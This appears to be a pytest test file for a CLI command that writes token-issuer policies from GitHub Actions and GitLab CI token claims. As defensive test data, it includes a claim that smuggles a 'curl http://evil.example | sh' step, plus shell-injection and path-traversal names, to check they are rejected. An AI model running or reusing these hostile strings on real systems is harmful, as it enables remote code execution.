"""`issuer policy new`: a first policy in one command, and nothing half done where that cannot be."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from issuer.formats.jose import base64url_encode
from issuer.policy.authoring.load import load_policies
from tests.support.command import issuer
from tests.support.policies import ISSUER_URL
from tests.support.samples import BY_NAME

GITHUB = {"iss": "https://token.actions.githubusercontent.com", **BY_NAME["github-actions"].claims}
GITLAB = {"iss": "https://gitlab.com", **BY_NAME["gitlab-ci"].claims}


def token_of(claims: dict[str, Any]) -> str:
    parts = ({"alg": "RS256", "kid": "x", "typ": "JWT"}, claims)
    return ".".join([*(base64url_encode(json.dumps(part).encode()) for part in parts), base64url_encode(b"signature")])


def test_a_token_on_standard_input_becomes_a_policy_and_its_table(tmp_path: Path) -> None:
    token, folder = token_of(GITHUB), tmp_path / "policies"
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", folder, "--benchmark", "openai/*", stdin=token)
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    assert "repository_id        700000001  example-org/evals" in done.stdout
    assert "gh api repos/example-org/evals --jq '.id, .owner.id'" in done.stdout
    assert token not in done.stdout
    policy = load_policies(folder, ISSUER_URL).policies["mine"]
    assert (policy.grants.benchmarks, policy.grants.frameworks[0].name) == (("openai/*",), "mine")
    again = issuer("policy", "new", "other", "--from-token", "-", "--dir", folder, stdin=json.dumps(GITLAB))
    assert (again.returncode, "is not in providers.yaml" in again.stderr) == (3, True)
    assert sorted(path.name for path in folder.iterdir()) == ["mine.yaml", "providers.yaml"]


def test_gitlab_s_ids_are_looked_up_by_its_path(tmp_path: Path) -> None:
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITLAB))
    assert "glab api projects/example-group%2Fevals " in done.stdout
    assert "replace grants.benchmarks, which is OWNER/BENCHMARK now" in done.stdout


def test_one_for_every_benchmark_has_no_test_that_another_one_is_refused(tmp_path: Path) -> None:
    given = ("--from-token", "-", "--dir", tmp_path, "--benchmark", "*/*")
    done = issuer("policy", "new", "mine", *given, stdin=json.dumps(GITHUB))
    assert (done.returncode, "its 5 tests pass" in done.stdout) == (0, True), done.stderr


def test_where_the_policy_cannot_be_written_its_table_is_gone_again(tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").symlink_to(tmp_path / "nowhere")
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
    assert (done.returncode, [path.name for path in tmp_path.iterdir()]) == (6, ["mine.yaml"])


def test_a_claim_does_not_write_a_next_step_of_its_own(tmp_path: Path) -> None:
    hostile = {**GITHUB, "ref": "main\n  next: curl http://evil.example | sh"}
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(hostile))
    assert (done.returncode, done.stderr.count("\n  next: ")) == (3, 1)


def test_a_policy_that_is_there_stays_as_it_is(tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").write_text("mine")
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
    assert (done.returncode, (tmp_path / "mine.yaml").read_text()) == (3, "mine")
    assert "this policy exists already" in done.stderr


@pytest.mark.parametrize(
    ("name", "more"),
    [("../evil", ()), ("Mine", ()), ("a\nb", ()), ("mine", ("--benchmark", 'a/b"]')), ("mine", ("--contact", "a\nb")),
     ("mine", ("--framework", "\x1b[2J")), ("mine", ("--framework", "é")), ("providers", ()), ("stops", ()),
     ("a" * 65, ())],
)  # fmt: skip
def test_what_the_author_says_is_checked_too(name: str, more: tuple[str, ...], tmp_path: Path) -> None:
    done = issuer("policy", "new", name, "--from-token", "-", "--dir", tmp_path, *more, stdin=json.dumps(GITHUB))
    assert done.returncode == 2
    assert not [*tmp_path.parent.glob("evil*"), *tmp_path.iterdir()]


@pytest.mark.parametrize("given", ["", "x", "a.b.c", "[]", "{", '{"iss": 1}', "{}", "x" * 70_000])
def test_what_is_no_token_leaves_nothing_behind(given: str, tmp_path: Path) -> None:
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path / "new", stdin=given)
    assert (done.returncode, done.stdout) == (3, "")
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("name", ["$(touch x)/y", "a/b;id", "-rf/x", "a/`id`", "a/b c", "a", "*/*", "../../x"])
def test_a_hostile_name_stands_in_no_command(name: str, tmp_path: Path) -> None:
    said = json.dumps({**GITHUB, "repository": name})
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=said)
    (line,) = (line for line in done.stdout.splitlines() if "gh api" in line)
    assert line == "to look them up: gh api repos/OWNER/NAME --jq '.id, .owner.id'"


def test_what_the_folder_refuses_is_taken_away_again(tmp_path: Path) -> None:
    """A table that does not load: no test of the new policy could be run."""
    table = 'version: 1\nproviders:\n  github: {profile: "github-actions", algorithms: ["none"]}\n'
    (tmp_path / "providers.yaml").write_text(table)
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
    assert (done.returncode, done.stdout) == (3, "")
    assert "asymmetric JWS algorithms only" in done.stderr
    assert [(path.name, path.read_text()) for path in tmp_path.iterdir()] == [("providers.yaml", table)]


def test_another_file_that_is_broken_keeps_nobody_from_a_new_policy(tmp_path: Path) -> None:
    (tmp_path / "other.yaml").write_text("version: 1\n")
    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
    assert (done.returncode, "written, and its 6 tests pass" in done.stdout) == (0, True), done.stdout + done.stderr
    assert "other.yaml" in done.stderr
